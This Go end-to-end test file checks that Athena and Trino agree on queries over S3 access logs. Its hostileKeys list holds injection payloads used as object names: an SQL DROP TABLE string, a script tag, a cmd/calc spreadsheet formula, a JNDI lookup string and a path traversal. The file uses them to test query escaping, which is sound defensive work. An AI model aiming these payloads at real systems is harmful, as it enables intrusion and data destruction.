//go:build cgo && unix

package e2e

import (
	"fmt"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"sluice/internal/query"
)

// wholeTables compares every row. No dt is named: Trino has to find its days in
// what the template says of them.
func (e *engines) wholeTables(s *stack) {
	e.t.Helper()
	left := map[string]bool{}
	for _, g := range s.tables(e.t.Context()) {
		left[g.Name] = g.TableType != "VIRTUAL_VIEW"
	}
	for _, table := range tablesOf(e.t) {
		left[table.Name] = false
		sql := "SELECT * FROM " + table.Name
		if a := e.same(table.Name, sql, sql, false); len(a.Rows) == 0 || len(a.Columns) != len(table.Columns)+1 {
			e.t.Errorf("%s: %d rows of %d columns", table.Name, len(a.Rows), len(a.Columns))
		}
	}
	for name, is := range left {
		if is {
			e.t.Errorf("table %s of Glue was not compared", name)
		}
	}
}

// wholeViews compares every row of the views that the template deploys.
func (e *engines) wholeViews() {
	e.t.Helper()
	for _, v := range e.views() {
		sql := "SELECT * FROM " + v.Name + " WHERE dt BETWEEN '2026-01-01' AND '9999-12-31'"
		if a := e.same(v.Name, sql, sql, false); len(a.Rows) == 0 {
			e.t.Errorf("%s: no rows", v.Name)
		}
	}
}

func (e *engines) views() []query.View {
	e.t.Helper()
	views, err := query.Views()
	if err != nil || len(views) < 4 {
		e.t.Fatalf("%d views, %v", len(views), err)
	}
	return views
}

func (e *engines) queries() []query.Named {
	e.t.Helper()
	all, err := query.All()
	if err != nil || len(all) < 25 {
		e.t.Fatalf("%d named queries, %v", len(all), err)
	}
	return all
}

// namedQueries asks every named query as text and as prepared statement, with
// the defaults and with what the answers that were worked out by hand have.
func (e *engines) namedQueries(given map[string][]map[string]string) {
	e.t.Helper()
	for _, q := range e.queries() {
		sql, err := q.Render(nil)
		if err != nil {
			e.t.Fatal(err)
		}
		// The buckets were looked at once, which leaves nothing to compare with.
		first := q.Name == "logging-changes"
		if a := e.same(q.Name, sql, sql, true); (len(a.Rows) == 0) != first {
			e.t.Errorf("%s: %d rows", q.Name, len(a.Rows))
		}
		for _, params := range append(given[q.Name], nil) {
			sql, err := q.Render(params)
			if err != nil {
				e.t.Fatal(err)
			}
			prepared, values := execution(q, params)
			e.same(q.Name+" prepared", prepared, sql, true, values...)
		}
	}
}

// execution is a query as a statement with question marks, and what stands for
// them.
func execution(q query.Named, given map[string]string) (sql string, values []string) {
	literals := map[string]string{}
	for _, p := range q.Params {
		value, ok := given[p.Name]
		if !ok {
			value = p.Default
		}
		if p.Type != "number" {
			value = "'" + strings.ReplaceAll(value, "'", "''") + "'"
		}
		literals[p.Name] = value
	}
	sql, names := q.Prepared()
	for _, name := range names {
		values = append(values, literals[name])
	}
	return sql, values
}

// savedQueries asks what the template puts into Athena's list of saved queries.
func (e *engines) savedQueries(s *stack) {
	e.t.Helper()
	found := map[string]bool{}
	for name, r := range s.Resources {
		if r.Type != "AWS::Athena::NamedQuery" {
			continue
		}
		var q struct{ Name, Database, QueryString string }
		s.properties(name, &q)
		if q.Database != e.trino.schema {
			e.t.Errorf("%s is asked in %s", q.Name, q.Database)
		}
		found[q.Name] = true
		e.same(q.Name, q.QueryString, q.QueryString, true)
	}
	for _, q := range e.queries() {
		if !found[q.Name] {
			e.t.Errorf("%s is not saved", q.Name)
		}
	}
}

// classic asks what is published for AWS's older table. The names of columns
// that have none differ: _col0 here and count_star() there. Nor do these
// questions say in which order rows of the same second come.
func (e *engines) classic(d days) {
	e.t.Helper()
	text, err := os.ReadFile("../query/testdata/classic.txt")
	if err != nil {
		e.t.Fatal(err)
	}
	asked := strings.Split(d.Replace(string(text)), "\n== ")[1:]
	if len(asked) < 20 {
		e.t.Fatalf("%d questions", len(asked))
	}
	for _, c := range asked {
		name, rest, _ := strings.Cut(c, "\n")
		sql, _, _ := strings.Cut(rest, "\n--\n")
		sql = strings.TrimSuffix(sql, ";") // which the console of Athena takes off, too
		asking := e.nameless()
		asking.by = orderOf(sql)
		asking.same(name, sql, sql, false)
	}
}

var orderBy = regexp.MustCompile(`(?is)\bORDER BY\s+([\w ,]+)$`)

// orderOf is what a statement orders its rows by: names of columns, or their
// numbers.
func orderOf(sql string) (by []string) {
	m := orderBy.FindStringSubmatch(sql)
	if m == nil {
		return nil
	}
	for column := range strings.SplitSeq(m[1], ",") {
		by = append(by, strings.Fields(column)[0])
	}
	return by
}

// project is an answer's rows with these columns only, its head left out.
func project(t *testing.T, answer [][]string, by []string) (rows [][]string) {
	t.Helper()
	var at []int
	for _, column := range by {
		i := slices.IndexFunc(answer[0], func(head string) bool {
			name, _, _ := strings.Cut(head, " ")
			return strings.EqualFold(name, column)
		})
		if n, err := strconv.Atoi(column); err == nil {
			i = n - 1
		}
		if i < 0 || i >= len(answer[0]) {
			t.Fatalf("no column %s in %q", column, answer[0])
		}
		at = append(at, i)
	}
	for _, row := range answer[1:] {
		var some []string
		for _, i := range at {
			some = append(some, row[i])
		}
		rows = append(rows, some)
	}
	return rows
}

// hostileKeys are what somebody may call an object to harm who reads of it.
var hostileKeys = []string{
	`'; DROP TABLE s3_access_logs; --`, `" OR ""="`, `<script>alert(1)</script>`, "a\tb\r\nc", "\x00NULL", "NULL", `\N`,
	"Zo\u00eb/\u65e5\u672c/\U0001faa3", "\u202egnp.exe", "=cmd|' /C calc'!A0", "${jndi:ldap://192.0.2.1/a}", `a b+c%20d%2e`, `..\../etc/passwd`,
}

// hostileFile is a delivered file with a request for each of the keys. S3
// encodes a key twice in its lines.
func hostileFile(day time.Time) string {
	var b strings.Builder
	for i, key := range hostileKeys {
		logged := url.QueryEscape(url.QueryEscape(key))
		fmt.Fprintf(&b, "%064x hostile-keys [%s] 203.0.113.77 - FACE%012X REST.GET.OBJECT %s \"GET /%s HTTP/1.1\" 403 AccessDenied 243 - 7 - \"-\" \"it's <b>;--\" - aGk= - ECDHE-RSA-AES128-GCM-SHA256 - hostile-keys.s3.us-west-2.amazonaws.com TLSv1.2 - -\n",
			7, day.Format("02/Jan/2006:15:04:05 -0700"), i, logged, url.QueryEscape(key))
	}
	return b.String()
}

// hostile reads the keys back, and asks for each by its name.
func (e *engines) hostile() {
	e.t.Helper()
	a, err := e.trino.ask(e.t.Context(), "SELECT key_name FROM s3_access_logs WHERE bucket_name = 'hostile-keys' ORDER BY request_id")
	if err != nil {
		e.t.Fatal(err)
	}
	var got []string
	for _, row := range a.Rows {
		got = append(got, fmt.Sprint(row[0]))
	}
	if d := cmp.Diff(hostileKeys, got); d != "" {
		e.t.Errorf("-asked for +in the table:\n%s", d)
	}
	access, err := query.Find("object-access")
	if err != nil {
		e.t.Fatal(err)
	}
	for _, key := range hostileKeys {
		params := map[string]string{"bucket": "hostile-keys", "key": key}
		sql, err := access.Render(params)
		if strings.ContainsRune(key, 0) {
			continue // no SQL has that
		}
		if err != nil {
			e.t.Fatal(err)
		}
		prepared, values := execution(access, params)
		if a := e.same(key, prepared, sql, true, values...); len(a.Rows) != 1 {
			e.t.Errorf("%q: %d rows", key, len(a.Rows))
		}
	}
}
